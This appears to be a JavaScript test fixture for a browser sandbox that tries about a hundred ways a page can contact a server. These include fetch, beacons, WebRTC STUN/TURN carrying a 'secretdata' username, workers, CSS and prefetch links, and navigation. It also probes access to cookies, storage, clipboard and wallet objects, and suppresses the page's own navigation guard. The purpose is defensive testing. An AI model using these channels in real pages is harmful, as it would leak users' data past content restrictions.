/**
 * What a page could try to reach the network with: each entry one way, named by what it asks for. The text of this file is
 * put into a page; `attack` is what the page calls. `web`: the address of a server that should hear of nothing; `stun`:
 * host and port of another one; `names`: the end of host names that nobody should ask for.
 */

globalThis.attack = ({ web, stun, names }) => {
  const u = (path) => `${web}/${path}`
  const el = (tag, attributes = {}, parent = document.body) => {
    const made = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value)
    parent.append(made)
    return made
  }
  /** Globals that no script of the page has touched. */
  const realm = () => el('iframe').contentWindow
  // The page's first script keeps links and forms from leading away: these get around it, so that the lock is tried.
  for (const type of ['click', 'submit'])
    addEventListener(type, (event) => Event.prototype.stopImmediatePropagation.call(event), true)
  const gathered = (pc) =>
    new Promise((resolve) => {
      pc.onicegatheringstatechange = () => {
        if (pc.iceGatheringState === 'complete') resolve()
      }
      setTimeout(resolve, 1500)
    })
  const ways = {
    fetch: () => fetch(u('fetch')),
    fetchNoCors: () => fetch(u('fetchNoCors'), { mode: 'no-cors', method: 'POST', body: 'x' }),
    fetchKeepalive: () => fetch(u('fetchKeepalive'), { keepalive: true, mode: 'no-cors' }),
    fetchLater: () => window.fetchLater && fetchLater(u('fetchLater'), { activateAfter: 0 }),
    xhr: () => {
      const x = new XMLHttpRequest()
      x.open('GET', u('xhr'))
      x.send()
    },
    beacon: () => navigator.sendBeacon(u('beacon'), 'x'),
    ws: () => new WebSocket(u('ws').replace('http:', 'ws:')),
    es: () => new EventSource(u('es')),
    webtransport: () => new (realm().WebTransport)(`${web.replace('http:', 'https:')}/webtransport`),
    img: () => {
      new Image().src = u('img')
    },
    imgSrcset: () => el('img', { srcset: `${u('imgSrcset')} 1x` }),
    picture: () => {
      const p = el('picture', {})
      el('source', { srcset: u('picture') }, p)
      el('img', {}, p)
    },
    inputImage: () => el('input', { type: 'image', src: u('inputImage') }),
    bodyBg: () => document.body.setAttribute('background', u('bodyBg')),
    poster: () => el('video', { poster: u('poster') }),
    cssBg: () => el('div', { style: `width:9px;height:9px;background:url(${u('cssBg')})` }),
    cssImport: () => {
      el('style', {}).textContent = `@import url(${u('cssImport')});`
    },
    fontFace: () => {
      el('style', {}).textContent = `@font-face{font-family:q;src:url(${u('fontFace')})}`
      el('span', { style: 'font-family:q' }).textContent = 'x'
    },
    fontFaceApi: () => new FontFace('z', `url(${u('fontFaceApi')})`).load(),
    linkCss: () => el('link', { rel: 'stylesheet', href: u('linkCss') }),
    cursor: () => el('div', { style: `cursor:url(${u('cursor')}),auto` }),
    cssMask: () =>
      el('div', {
        style: `width:9px;height:9px;mask-image:url(${u('cssMask')});filter:url(${u('cssFilter')}#a)`,
      }),
    script: () => el('script', { src: u('script') }),
    moduleScript: () => el('script', { type: 'module', src: u('moduleScript') }),
    dynImport: () => import(u('dynImport')),
    modulepreload: () => el('link', { rel: 'modulepreload', href: u('modulepreload') }, document.head),
    workerBlobFetch: () =>
      new Worker(
        URL.createObjectURL(
          new Blob([
            `fetch('${u('workerBlobFetch')}').catch(()=>{});try{importScripts('${u('workerImportScripts')}')}catch(e){}`,
          ]),
        ),
      ),
    workerUrl: () => new Worker(u('workerUrl')),
    workerData: () => new Worker(`data:text/javascript,fetch('${u('workerDataFetch')}')`),
    sharedWorker: () => new SharedWorker(URL.createObjectURL(new Blob([`fetch('${u('sharedWorker')}')`]))),
    audio: () => {
      el('audio', { src: u('audio'), preload: 'auto' })
    },
    video: () => {
      el('video', { src: u('video'), preload: 'auto' })
    },
    track: () => {
      const v = el('video', {})
      const t = el('track', { src: u('track'), default: '' }, v)
      t.track.mode = 'showing'
    },
    object: () => el('object', { data: u('object') }),
    embed: () => el('embed', { src: u('embed') }),
    iframe: () => el('iframe', { src: u('iframe') }),
    iframeSrcdoc: () =>
      el('iframe', {
        srcdoc: `<img src="${u('iframeSrcdocImg')}"><script>fetch('${u('iframeSrcdocFetch')}');location='${u('iframeSrcdocNav')}'</script>`,
      }),
    iframeData: () =>
      el('iframe', {
        src: `data:text/html,<img src="${u('iframeDataImg')}"><script>location='${u('iframeDataNav')}'</script>`,
      }),
    iframeBlob: () =>
      el('iframe', {
        src: URL.createObjectURL(new Blob([`<img src="${u('iframeBlobImg')}">`], { type: 'text/html' })),
      }),
    fencedframe: () => {
      if (window.FencedFrameConfig) {
        const f = el('fencedframe', {})
        f.config = new FencedFrameConfig(u('fencedframe'))
      }
    },
    iframeJsAboutBlank: () => {
      const f = el('iframe', {})
      f.contentWindow.fetch(u('aboutBlankFetch'))
    },
    iframeNavAttr: () => {
      const f = el('iframe', { name: 'nn' })
      f.contentWindow.location = u('iframeNav')
    },
    svgImage: () => {
      document.body.insertAdjacentHTML(
        'beforeend',
        `<svg><image href="${u('svgImage')}"/><use href="${u('svgUse')}#a"/></svg>`,
      )
    },
    prefetch: () => el('link', { rel: 'prefetch', href: u('prefetch') }, document.head),
    preload: () => el('link', { rel: 'preload', as: 'image', href: u('preload') }, document.head),
    preloadFetch: () => el('link', { rel: 'preload', as: 'fetch', href: u('preloadFetch') }, document.head),
    preconnect: () => el('link', { rel: 'preconnect', href: `http://preconnect${names}` }, document.head),
    preconnectHere: () => el('link', { rel: 'preconnect', href: web }, document.head),
    dnsPrefetch: () => el('link', { rel: 'dns-prefetch', href: `http://dnsprefetch${names}` }, document.head),
    prerender: () => el('link', { rel: 'prerender', href: u('prerender') }, document.head),
    icon: () => el('link', { rel: 'icon', href: u('icon') }, document.head),
    manifest: () => el('link', { rel: 'manifest', href: u('manifest') }, document.head),
    linkSearch: () =>
      el(
        'link',
        { rel: 'search', type: 'application/opensearchdescription+xml', href: u('linkSearch') },
        document.head,
      ),
    compressionDict: () =>
      el('link', { rel: 'compression-dictionary', href: u('compressionDict') }, document.head),
    specPrefetch: () => {
      el('script', { type: 'speculationrules' }).textContent = JSON.stringify({
        prefetch: [{ source: 'list', urls: [u('specPrefetch')], eagerness: 'immediate' }],
      })
    },
    specPrerender: () => {
      el('script', { type: 'speculationrules' }).textContent = JSON.stringify({
        prerender: [{ source: 'list', urls: [u('specPrerender')], eagerness: 'immediate' }],
      })
    },
    importmap: () => {
      el('script', { type: 'importmap' }).textContent = JSON.stringify({ imports: { x: u('importmap') } })
      return import(['x'].join())
    },
    formPostFrame: () => {
      const _i = el('iframe', { name: 'tgt' })
      const f = el('form', { action: u('formPost'), method: 'POST', target: 'tgt' })
      f.requestSubmit()
    },
    formBlank: () => {
      const f = el('form', { action: u('formBlank'), method: 'GET', target: '_blank' })
      f.requestSubmit()
    },
    formTop: () => {
      const f = el('form', { action: u('formTop'), target: '_top' })
      f.requestSubmit()
    },
    aPing: () => {
      const a = el('a', { href: '#x', ping: u('aPing') })
      a.click()
    },
    areaPing: () => el('area', { href: '#y', ping: u('areaPing') }, el('map')).click(),
    aBlank: () => {
      const a = el('a', { href: u('aBlank'), target: '_blank' })
      a.click()
    },
    aTop: () => {
      const a = el('a', { href: u('aTop'), target: '_top' })
      a.click()
    },
    attrSrc: () => {
      el('img', { attributionsrc: u('attrSrc'), src: 'data:,' })
    },
    windowOpen: () => document.open(u('windowOpen'), '', ''),
    topLocation: () => {
      top.location = u('topLocation')
    },
    parentLocation: () => {
      parent.location.href = u('parentLocation')
    },
    siblingNav: () => {
      for (let i = 0; i < parent.frames.length; i++)
        if (parent.frames[i] !== window) parent.frames[i].location = u('siblingNav')
    },
    webrtcStun: async () => {
      const pc = new (realm().RTCPeerConnection)({
        iceServers: [{ urls: `stun:${stun}?transport=udp` }, { urls: `stun:${stun}` }],
      })
      pc.createDataChannel('x')
      await pc.setLocalDescription(await pc.createOffer())
      await gathered(pc)
    },
    webrtcTurn: async () => {
      const pc = new (realm().RTCPeerConnection)({
        iceServers: [
          { urls: `turn:${stun}?transport=tcp`, username: 'secretdata', credential: 'x' },
          { urls: `turn:${stun}?transport=udp`, username: 'secretdata', credential: 'x' },
        ],
      })
      pc.createDataChannel('x')
      await pc.setLocalDescription(await pc.createOffer())
      await gathered(pc)
    },
    baseHref: () => {
      el('base', { href: `${web}/base/` }, document.head)
      new Image().src = 'baseImg'
    },
    xslt: () => {
      const p = new XSLTProcessor()
      p.importStylesheet(
        new DOMParser().parseFromString(
          `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="${u('xslt')}"/></xsl:stylesheet>`,
          'text/xml',
        ),
      )
    },
    payment: () =>
      new PaymentRequest([{ supportedMethods: u('payment') }], {
        total: { label: 'a', amount: { currency: 'USD', value: '1' } },
      }).canMakePayment(),
    cacheAdd: async () => {
      const c = await caches.open('x')
      await c.add(u('cacheAdd'))
    },
    swReg: () => navigator.serviceWorker.register(u('swReg')),
    audioWorklet: async () => {
      const c = new AudioContext()
      await c.audioWorklet.addModule(u('audioWorklet'))
    },
    paintWorklet: () => CSS.paintWorklet.addModule(u('paintWorklet')),
    notification: () => new Notification('x', { icon: u('notif') }),
    imgSetCss: () =>
      el('div', { style: `width:9px;height:9px;background:image-set(url(${u('imgSetCss')}) 1x)` }),
    mediaSession: () => {
      navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: u('mediaSession') }] })
    },
    setHTML: () => {
      document.body.insertAdjacentHTML(
        'beforeend',
        `<meta http-equiv="link" content="<${u('metaLink')}>; rel=prefetch">`,
      )
    },
    hrefPrefetchHeaderless: () => {
      document.body.insertAdjacentHTML(
        'beforeend',
        `<link rel="next prefetch" href="${u('nextPrefetch')}"><link rel="stylesheet preload" as="style" href="${u('cssPreload')}"><link rel="alternate stylesheet" href="${u('altCss')}">`,
      )
    },
    cssContent: () => {
      el('style', {}).textContent = `.c::before{content:url(${u('cssContent')})}`
      el('div', { class: 'c' })
    },
    cssBorderImage: () => el('div', { style: `border:9px solid;border-image:url(${u('cssBorderImage')}) 9` }),
    cssListImage: () => el('li', { style: `list-style-image:url(${u('cssListImage')})` }),
    cssShape: () =>
      el('div', { style: `float:left;width:9px;height:9px;shape-outside:url(${u('cssShape')})` }),
    cssomRule: () => {
      el('style', {}).sheet.insertRule(`.r{width:9px;height:9px;background:url(${u('cssomRule')})}`)
      el('div', { class: 'r' })
    },
    adoptedSheet: () => {
      const sheet = new CSSStyleSheet()
      sheet.replaceSync(`.s{width:9px;height:9px;background:url(${u('adoptedSheet')})}`)
      document.adoptedStyleSheets = [sheet]
      el('div', { class: 's' })
    },
    svgFeImage: () => {
      document.body.insertAdjacentHTML(
        'beforeend',
        `<svg><filter id="fe"><feImage href="${u('svgFeImage')}"/></filter><rect width="9" height="9" filter="url(#fe)"/></svg>`,
      )
    },
    svgScript: () => {
      const svg = document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg'))
      const made = document.createElementNS('http://www.w3.org/2000/svg', 'script')
      made.setAttribute('href', u('svgScript'))
      svg.append(made)
    },
    buttonFormaction: () => {
      const _i = el('iframe', { name: 'tgt2' })
      const f = el('form', { target: 'tgt2' })
      el('button', { formaction: u('buttonFormaction') }, f).click()
    },
    workerWs: () =>
      new Worker(
        URL.createObjectURL(new Blob([`new WebSocket('${u('workerWs').replace('http:', 'ws:')}')`])),
      ),
    workerEs: () => new Worker(URL.createObjectURL(new Blob([`new EventSource('${u('workerEs')}')`]))),
    workerModule: () =>
      new Worker(
        URL.createObjectURL(new Blob([`import '${u('workerModule')}'`], { type: 'text/javascript' })),
        {
          type: 'module',
        },
      ),
    xmlStylesheet: () =>
      el('iframe', {
        src: URL.createObjectURL(
          new Blob(
            [
              `<?xml-stylesheet type="text/css" href="${u('xmlStylesheet')}"?><html xmlns="http://www.w3.org/1999/xhtml"/>`,
            ],
            { type: 'application/xhtml+xml' },
          ),
        ),
      }),
    portal: () => el('portal', { src: u('portal') }),
    webSocketStream: () => new (realm().WebSocketStream)(u('webSocketStream').replace('http:', 'ws:')),
    identity: () =>
      navigator.credentials.get({
        identity: { providers: [{ configURL: u('identity'), clientId: 'x' }] },
      }),
    presentation: () => new PresentationRequest(u('presentation')).getAvailability(),
    sharedStorage: () => window.sharedStorage?.worklet.addModule(u('sharedStorage')),
    interestGroup: () =>
      navigator.joinAdInterestGroup?.(
        { owner: web, name: 'x', biddingLogicURL: u('interestGroup'), lifetimeMs: 1_000 },
        1_000,
      ),
    // Last: its policy holds from then on.
    metaCspReport: () => {
      const _m = el(
        'meta',
        {
          'http-equiv': 'Content-Security-Policy',
          content: `img-src 'none'; report-uri ${u('metaCspReport')}`,
        },
        document.head,
      )
      new Image().src = 'http://x.invalid/'
    },
  }
  /** What of the browser a page without an origin must not get at. */
  const reaches = {
    cookie: () => document.cookie,
    localStorage: () => localStorage.length,
    sessionStorage: () => sessionStorage.length,
    indexedDB: () => {
      indexedDB.open('x')
    },
    caches: () => caches.keys(),
    parentDoc: () => parent.document.title,
    parentLocation: () => parent.location.href,
    topName: () => top.name,
    sw: () => String(navigator.serviceWorker.controller),
    bc: () => {
      new BroadcastChannel('x')
    },
    locks: () => navigator.locks.query(),
    origin: () => self.origin,
    geoloc: () => navigator.geolocation.getCurrentPosition(() => {}),
    clipboardRead: () => navigator.clipboard.readText(),
    clipboardWrite: () => navigator.clipboard.writeText('x'),
    ethereum: () => String(window.ethereum),
  }
  /** Ways of a page to go elsewhere. */
  const leaves = {
    locationHref: () => {
      location.href = u('locationHref')
    },
    locationReplace: () => location.replace(u('locationReplace')),
    metaRefresh: () => {
      document.head.insertAdjacentHTML('beforeend', '')
      el('meta', { 'http-equiv': 'refresh', content: `0;url=${u('metaRefresh')}` }, document.head)
    },
    aSelf: () => {
      const a = el('a', { href: u('aSelf') })
      a.click()
    },
    formSelf: () => {
      const f = el('form', { action: u('formSelf'), method: 'POST' })
      f.requestSubmit()
    },
    navData: () => {
      window.location = `data:text/html,<img src="${u('navDataImg')}"><script>fetch("${u('navDataFetch')}")</script>`
    },
    navBlob: () => {
      window.location = URL.createObjectURL(
        new Blob([`<img src="${u('navBlobImg')}"><script>fetch('${u('navBlobFetch')}')</script>`], {
          type: 'text/html',
        }),
      )
    },
    docWrite: () => {
      document.open()
      document.write(`<img src="${u('docWriteImg')}">`)
      document.close()
    },
    navJs: () => {
      window.location = `javascript:"<img src=${u('navJsImg')}>"`
    },
    navHost: () => {
      location.href = document.referrer || '/'
    },
    historyNav: () => {
      history.pushState({}, '', u('pushState'))
    },
    aDownload: () => {
      const a = el('a', { href: u('aDownload'), download: 'x' })
      a.click()
    },
    formGet: () => {
      const f = el('form', { action: u('formGet'), method: 'GET' })
      el('input', { name: 'a', value: 'b' }, f)
      f.requestSubmit()
    },
    navigationApi: () => navigation.navigate(u('navigationApi')),
  }

  const tried = async (each) => {
    try {
      const result = each()
      if (result && typeof result.then === 'function') result.then(undefined, () => {})
      return 'done'
    } catch (thrown) {
      return `${thrown.name}: ${thrown.message}`
    }
  }
  return {
    ways: Object.keys(ways),
    leaves: Object.keys(leaves),
    async all() {
      for (const name of Object.keys(ways)) {
        await tried(ways[name])
        await new Promise((resolve) => setTimeout(resolve, 5))
      }
    },
    async reached() {
      const seen = {}
      for (const [name, reach] of Object.entries(reaches)) {
        try {
          seen[name] = String(await reach())
        } catch (thrown) {
          seen[name] = thrown.name
        }
      }
      return seen
    },
    leave: (way) => leaves[way](),
  }
}
